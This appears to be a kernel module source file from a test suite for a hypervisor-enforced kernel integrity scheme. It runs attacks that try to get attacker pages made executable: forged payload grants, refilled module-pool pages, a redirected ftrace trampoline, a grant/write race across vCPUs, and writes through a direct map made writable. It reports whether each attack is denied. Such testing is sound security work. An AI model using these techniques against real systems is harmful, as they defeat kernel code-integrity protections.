// SPDX-License-Identifier: GPL-2.0
/*
 * Attacks that ask the host to let pages run, which it does for a sealed
 * kernel's pool of executable memory.
 *
 * Each sends GRANT and RELEASE requests, as the kernel would, for pages whose
 * content must not run. Where no host serves such requests, the attacker writes
 * the page as it is and runs it. What was released is granted again.
 *
 * Neighbours: main.c, tools.c, write.c, exec.c. Locks: none, one attack at a
 * time.
 */
#include <linux/ftrace.h>
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/sizes.h>
#include <linux/slab.h>
#include <linux/string.h>

#include <asm/pgtable.h>
#include <asm/text-patching.h>

#include <uapi/linux/heki.h>

#include "heki_attack.h"

#define RACE_ROUNDS	32

/* A GRANT or RELEASE request for one page. */
struct request {
	struct heki_grant header;
	struct heki_range range;
};

static struct request *request;
/* A page of the attacker, for what shall run. */
static u8 *forgery;

static long ask(u64 op, const void *page, const void *va)
{
	*request = (struct request) {
		.header = { .version = HEKI_ABI_VERSION, .nr_ranges = 1 },
		.range = {
			.gpa = slow_virt_to_phys((void *)page),
			.len = PAGE_SIZE,
			.va = (unsigned long)va,
			.rights = op == HEKI_OP_GRANT ? HEKI_EXEC : 0,
			.kind = HEKI_KIND_POOL,
		},
	};
	return try_request(op, request, sizeof(*request));
}

/* The kernel may have unmapped the page. */
static bool is_trap_page(const void *page)
{
	struct leaf leaf;

	return leaf_find(&leaf, (unsigned long)page) &&
	       !memchr_inv(page, INT3_INSN_OPCODE, PAGE_SIZE);
}

/* A page of the kernel's pool in which nothing is. */
static void *find_pool_page(struct attack_report *report)
{
	struct leaf leaf;

	for (unsigned long va = MODULES_VADDR; va < MODULES_END; va += PAGE_SIZE) {
		if (!leaf_find(&leaf, va)) {
			va = ALIGN_DOWN(va, leaf_size(&leaf)) + leaf_size(&leaf) - PAGE_SIZE;
			continue;
		}
		if (!(leaf.old & (_PAGE_RW | _PAGE_NX)) && is_trap_page((void *)va))
			return (void *)va;
	}
	attack_say(report, ATTACK_INCONCLUSIVE, "no page of the pool found");
	return NULL;
}

/* Fills the page through its direct map, made writable. Returns the exception. */
static int fill_page(void *page, const void *content)
{
	u8 *alias = __va(slow_virt_to_phys(page));
	const u8 *from = content;
	struct leaf leaf;
	unsigned long flags;
	int trap = 0;

	if (!leaf_find(&leaf, (unsigned long)alias))
		return -1;
	local_irq_save(flags);
	leaf_edit(&leaf, _PAGE_RW, 0);
	for (int i = 0; i < PAGE_SIZE && !trap; i++)
		trap = try_write(alias + i, from ? from[i] : INT3_INSN_OPCODE);
	leaf_restore(&leaf);
	local_irq_restore(flags);
	flush_everywhere();
	return trap;
}

static void make_payload(void)
{
	memset(forgery, INT3_INSN_OPCODE, PAGE_SIZE);
	payload_copy(forgery);
}

/* Without a host to ask: the payload in a page that may run as it is. */
static void write_and_run(struct attack_report *report)
{
	void *page = find_pool_page(report);
	bool ran = false;
	int trap;

	if (!page)
		return;
	make_payload();
	trap = fill_page(page, forgery);
	if (!trap)
		trap = try_call((unsigned long)page, &ran);
	if (!is_trap_page(page))
		fill_page(page, NULL);
	attack_judge(report, trap, ran);
}

void attack_grant_code(struct attack_report *report)
{
	long ret;

	if (!host_serves_patch()) {
		write_and_run(report);
		return;
	}
	make_payload();
	ret = ask(HEKI_OP_GRANT, forgery, forgery);
	if (!ret)
		ask(HEKI_OP_RELEASE, forgery, forgery);
	attack_judge_request(report, ret, !ret);
}

void attack_grant_pool(struct attack_report *report)
{
	void *page;
	long ret;

	if (!host_serves_patch()) {
		write_and_run(report);
		return;
	}
	page = find_pool_page(report);
	if (!page)
		return;
	if (ask(HEKI_OP_RELEASE, page, page)) {
		attack_say(report, ATTACK_INCONCLUSIVE, "page of the pool not released");
		return;
	}
	make_payload();
	fill_page(page, forgery);
	ret = ask(HEKI_OP_GRANT, page, page);
	if (!ret)
		ask(HEKI_OP_RELEASE, page, page);
	attack_judge_request(report, ret, !ret);
	fill_page(page, NULL);
	if (ask(HEKI_OP_GRANT, page, page))
		attack_say(report, ATTACK_INCONCLUSIVE, "page of the pool not granted again");
}

void attack_release_text(struct attack_report *report)
{
	const u8 *padding = find_target(report);
	const void *page = (void *)((unsigned long)padding & PAGE_MASK);
	long ret;

	if (!padding)
		return;
	if (!host_serves_patch()) {
		write_through_direct_map(report, padding);
		return;
	}
	ret = ask(HEKI_OP_RELEASE, page, page);
	attack_judge_request(report, ret, !ret);
}

static void tracer(unsigned long ip, unsigned long parent_ip,
		   struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
}

static struct ftrace_ops tracer_ops = {
	.func = tracer,
};

/* Where the trampoline calls its tracer. */
static u8 *find_call(u8 *page)
{
	for (u8 *at = page; at < page + PAGE_SIZE - CALL_INSN_SIZE; at++)
		if (*at == CALL_INSN_OPCODE &&
		    at + CALL_INSN_SIZE + *(s32 *)(at + 1) == (u8 *)tracer)
			return at;
	return NULL;
}

/* Copies a trampoline that the kernel made. Returns where it was, with its call to come. */
static u8 *copy_trampoline(struct attack_report *report, unsigned long *call)
{
	static unsigned char traced[] = "orderly_poweroff";
	u8 *page, *at = NULL;

	if (ftrace_set_filter(&tracer_ops, traced, sizeof(traced) - 1, 1) ||
	    register_ftrace_function(&tracer_ops)) {
		attack_say(report, ATTACK_INCONCLUSIVE, "nothing can be traced");
		return NULL;
	}
	page = (u8 *)tracer_ops.trampoline;
	if (page) {
		memcpy(forgery, page, PAGE_SIZE);
		at = find_call(page);
	}
	unregister_ftrace_function(&tracer_ops);
	if (!at) {
		attack_say(report, ATTACK_INCONCLUSIVE, "no trampoline made");
		return NULL;
	}
	*call = at - page;
	return page;
}

void attack_grant_trampoline(struct attack_report *report)
{
	unsigned long call;
	u8 *page;
	long ret;

	if (!host_serves_patch()) {
		write_and_run(report);
		return;
	}
	page = copy_trampoline(report, &call);
	if (!page)
		return;
	if (!is_trap_page(page) || ask(HEKI_OP_RELEASE, page, page)) {
		attack_say(report, ATTACK_INCONCLUSIVE, "the trampoline's page is in use");
		return;
	}
	/* As it was, but for the call: to the middle of the tracer. */
	*(s32 *)(forgery + call + 1) += 6;
	ret = ask(HEKI_OP_GRANT, forgery, page);
	if (!ret)
		ask(HEKI_OP_RELEASE, forgery, page);
	attack_judge_request(report, ret, !ret);
	if (ask(HEKI_OP_GRANT, page, page))
		attack_say(report, ATTACK_INCONCLUSIVE, "page of the pool not granted again");
}

/* The other CPU's part of a race: writes until it is denied. */
struct writer {
	u8 *alias;
	int trap;
};

static bool write_once(void *arg, unsigned int round)
{
	struct writer *writer = arg;

	writer->trap = try_write(writer->alias, round & 1 ? INT3_INSN_OPCODE : 0x90);
	return !writer->trap;
}

/* Whether the page was granted with something else in it. */
static bool race_once(struct attack_report *report, void *page)
{
	struct writer writer = { .alias = __va(slow_virt_to_phys(page)) };
	struct meanwhile meanwhile = { .step = write_once, .arg = &writer };
	bool won = false;

	if (ask(HEKI_OP_RELEASE, page, page)) {
		attack_say(report, ATTACK_INCONCLUSIVE, "page of the pool not released");
		return false;
	}
	if (!meanwhile_begin(&meanwhile)) {
		attack_say(report, ATTACK_ABSENT, "there is no second vCPU");
		return false;
	}
	if (ask(HEKI_OP_GRANT, page, page))
		report->denials++;
	else
		won = !is_trap_page(page);
	meanwhile_end(&meanwhile);
	if (writer.trap)
		report->denials++;
	return won;
}

static void race(struct attack_report *report, void *page)
{
	struct leaf leaf;
	bool won = false;

	if (!leaf_find(&leaf, (unsigned long)__va(slow_virt_to_phys(page)))) {
		attack_say(report, ATTACK_INCONCLUSIVE, "no mapping to attack");
		return;
	}
	leaf_edit(&leaf, _PAGE_RW, 0);
	flush_everywhere();
	for (int i = 0; i < RACE_ROUNDS && !won && report->outcome == ATTACK_NOT_RUN; i++)
		won = race_once(report, page);
	leaf_restore(&leaf);
	flush_everywhere();

	if (won)
		attack_say(report, ATTACK_SUCCEEDED, "granted while it was written");
	else if (report->outcome == ATTACK_NOT_RUN)
		attack_say(report, ATTACK_DENIED, "in %d rounds", RACE_ROUNDS);
	ask(HEKI_OP_RELEASE, page, page);
	fill_page(page, NULL);
	if (ask(HEKI_OP_GRANT, page, page))
		attack_say(report, ATTACK_INCONCLUSIVE, "page of the pool not granted again");
}

void attack_grant_race(struct attack_report *report)
{
	void *page;

	if (!host_serves_patch()) {
		write_and_run(report);
		return;
	}
	page = find_pool_page(report);
	if (page)
		race(report, page);
}

int grant_init(void)
{
	request = kzalloc_obj(*request);
	forgery = (u8 *)get_zeroed_page(GFP_KERNEL);
	if (request && forgery)
		return 0;
	grant_exit();
	return -ENOMEM;
}

void grant_exit(void)
{
	free_page((unsigned long)forgery);
	kfree(request);
}
